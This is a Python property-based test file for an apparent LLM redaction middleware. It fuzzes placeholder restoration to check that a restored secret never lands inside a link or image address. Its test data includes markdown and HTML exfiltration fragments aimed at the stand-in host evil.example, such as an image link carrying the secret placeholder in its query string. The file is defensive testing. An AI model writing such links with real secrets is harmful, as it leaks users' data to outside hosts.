"""Redaction and links as laws: no pieces, encodings or neighbours make an address of a secret.

Here and not with the unit tests, because Hypothesis is not there in a page.
"""

from __future__ import annotations

import asyncio
import json
import re
import sys
from collections.abc import Callable
from itertools import pairwise
from typing import Any

import hypothesis.strategies as st
import pytest
from hypothesis import example, given, settings

import browserllm as bl
from browserllm.backends.middleware.placeholders import Placeholders
from browserllm.testing.backend import ScriptedBackend
from cases import cases
from unit.backends.middleware.link_attacks import ATTACKS, HARMLESS, carried_away

SECRET = "hunter2-correct-horse"
OTHERS = [
    "ada",
    "https://evil.example/?k=",
    ".evil.example/x",
    "two words",
    "![](//evil.example/?",
    'a"b',
    "203.0.113.9",
]
SYNTAX = [
    "[", "]", "(", ")", "](", "![", "]:", "<", ">", '"', "'", "`", "\\", "=", "/", "//", ":", " ", "\n", "\n\n", "\t",
    "https://evil.example/?k=", "<a href=", "<img src='", '<div style="', "<!--", "-->", "</b>", "url(", "href=",
    "www.", ".evil.example", "@evil.example", "javascript:", "mailto:", "x", "\\)", "\\>", '\\"', "\\u003c",
    "\\/", "%2f", "&sol;", "<https://evil.example/ ", "(< //evil.example/ ", "<script>", "<form>", "\r", "\u00a0", "**",
    "- ", "> ", "```\n", "```", "~~~ ", ".. ", "__ ", "[[", "[img]", "[/img]", "{", "}", "!https://", "image::", "@",
    ",", ";", "&lowbar;", "\\_", "\u3002", "\u2800", "\x0b", "[^", "\n   ",
]  # fmt: skip
placeholders_ = st.sampled_from(
    [f"<SECRET_{number}>" for number in range(1, len(OTHERS) + 2)] + ["<SECRET_99>", "<SECRET_"]
)
attacks = st.sampled_from([*ATTACKS.values(), *HARMLESS])
cuts = st.lists(st.integers(min_value=0))


def mark(text: str) -> str:
    """An attack with the placeholder in it."""
    return text.format(*["<SECRET_1>"] * text.count("{}"))


soup = st.lists(st.one_of(st.sampled_from(SYNTAX), placeholders_, attacks.map(mark), st.text(max_size=3)), max_size=12)


def cut(text: str, places: list[int]) -> list[str]:
    """A text in pieces."""
    ends = sorted({place % (len(text) + 1) for place in places} | {0, len(text)})
    return [text[start:end] for start, end in pairwise(ends)]


def restored(pieces: list[str], *, in_json: bool = False) -> str:
    """Restore an answer: the secret is the first value, others may be anything."""
    placeholders = Placeholders([])
    for value in (SECRET, *OTHERS):
        placeholders._placeholder(value, "SECRET")
    restorer = placeholders.restorer(in_json=in_json)
    return "".join([*(restorer.feed(piece) for piece in pieces), restorer.end()])


@given(soup.map("".join), cuts, st.booleans())
@settings(max_examples=cases(400), deadline=None)
def test_the_pieces_change_nothing(text: str, places: list[int], in_json: bool) -> None:
    """Any split gives the same result as the whole text, and so does one character at a time."""
    whole = restored([text], in_json=in_json)
    assert restored(cut(text, places), in_json=in_json) == whole
    assert restored(list(text), in_json=in_json) == whole


@given(soup.map("".join), cuts)
@settings(max_examples=cases(600), deadline=None)
def test_no_soup_of_syntax_makes_an_address_of_the_secret(text: str, places: list[int]) -> None:
    """Whatever surrounds it, the judge finds the secret in no address."""
    assert carried_away(restored(cut(text, places)), SECRET) == ""


@given(st.lists(attacks, min_size=1, max_size=4), st.sampled_from([" ", "\n", "\n\n", ". "]), cuts)
@settings(max_examples=cases(300), deadline=None)
def test_one_attack_opens_no_way_for_another(chosen: list[str], between: str, places: list[int]) -> None:
    """Attacks and harmless texts one after another."""
    assert carried_away(restored(cut(between.join(map(mark, chosen)), places)), SECRET) == ""


def escaped(text: str, how: str) -> str:
    """JSON's text, written in another way that means the same."""
    if how == "numbers":
        quoted = False
        signs: list[str] = []
        for sign in re.findall(r"\\.|.", text, re.DOTALL):
            quoted ^= sign == '"'
            signs.append(f"\\u{ord(sign):04x}" if quoted and sign in "/:.@<>hw" else sign)
        return "".join(signs)
    return text.replace("/", "\\/") if how == "slashes" else text


@given(
    st.lists(st.one_of(attacks.map(mark), soup.map("".join)), min_size=1, max_size=3),
    st.sampled_from(["plain", "slashes", "numbers"]),
    st.booleans(),
    cuts,
)
@example(["<![x](https://evil.example/?<SECRET_1>)"], "plain", False, [])
@settings(max_examples=cases(400), deadline=None)
def test_no_text_in_json_becomes_an_address_with_the_secret(
    values: list[str], how: str, compact: bool, places: list[int]
) -> None:
    """However it is written; what a reader of the JSON gets is judged, text by text, and it stays JSON of one shape."""
    text = escaped(json.dumps({"a": values, "b": "<SECRET_1>"}, separators=(",", ":") if compact else None), how)
    read = json.loads(restored(cut(text, places), in_json=True))
    assert read["b"] == SECRET
    assert len(read["a"]) == len(values)
    for value in read["a"]:
        assert carried_away(value, SECRET) == ""
        assert not (
            value.lstrip().lower().startswith(("http", "//", "www.", "javascript:", "data:")) and SECRET in value
        )


@given(
    st.lists(soup.map("".join), min_size=1, max_size=3),
    st.sampled_from(["send", "web_fetch"]),
    st.integers(min_value=0, max_value=40),
    cuts,
)
@settings(max_examples=cases(150), deadline=None)
def test_a_tool_that_was_not_named_gets_no_value(values: list[str], name: str, late: int, places: list[int]) -> None:
    """Through the middleware, with arguments in pieces and a name that may come late."""
    arguments = json.dumps({"values": values, "plain": "<SECRET_1>"})

    class Calls(ScriptedBackend):
        async def generate(self, request: bl.ChatRequest, draft: Any) -> Any:
            deltas = [bl.types.ToolCallDelta(index=0, arguments=piece) for piece in cut(arguments, places)]
            deltas.insert(min(late, len(deltas)), bl.types.ToolCallDelta(index=0, id="1", name=name))
            for delta in deltas:
                yield delta

    redaction = bl.Redaction(Calls(leaves_device=True), restore_tools=["send"])
    response = asyncio.run(redaction.complete(f"password: {SECRET}"))
    (call,) = response.message.tool_calls
    if name == "web_fetch":
        assert call.arguments == arguments
        return
    read = json.loads(call.arguments)
    assert read["plain"] == SECRET
    assert all(carried_away(value, SECRET) == "" for value in read["values"])


@pytest.mark.parametrize("size", [1, 7, sys.maxsize])
@pytest.mark.parametrize("in_json", [False, True])
@pytest.mark.parametrize(
    "unit",
    ["<SECRET_1> ", "<SECRET_1>", "<SECRET_1>x", "<", "<a ", "](", "[x](", "](<", '"https://', "a.b.", "%2f", "\\", "`",
     "]:\n", "<SECRET_1>&", "\n", "x", "<SECRET_1><SECRET_", "('", "data", "www", "<a b='<SECRET_1>",
     "![", "[[", "[img]", "{https: ", "!http", ".. ", "@", "\\_", "<SECRET_1>\u3002", "<SECRET_1>\u200b",
     "<SECRET_1>,"],
)  # fmt: skip
def test_the_work_grows_with_the_length(unit: str, in_json: bool, size: int) -> None:
    """Twice the text is about twice the lines of Python, however it is cut."""

    def steps(count: int) -> int:
        text = unit * count
        return lines_of(lambda: restored([text[at : at + size] for at in range(0, len(text), size)], in_json=in_json))

    assert steps(200) < 2.6 * steps(100) + 2000


def lines_of(work: Callable[[], object]) -> int:
    """How many lines of the middleware run in ``work``: a count of steps, which no busy machine changes."""
    count = 0

    def trace(frame: Any, event: str, _: Any) -> Any:
        nonlocal count
        if "middleware" not in frame.f_code.co_filename:
            return None
        count += event == "line"
        return trace

    before = sys.gettrace()
    sys.settrace(trace)
    try:
        work()
    finally:
        sys.settrace(before)
    return count
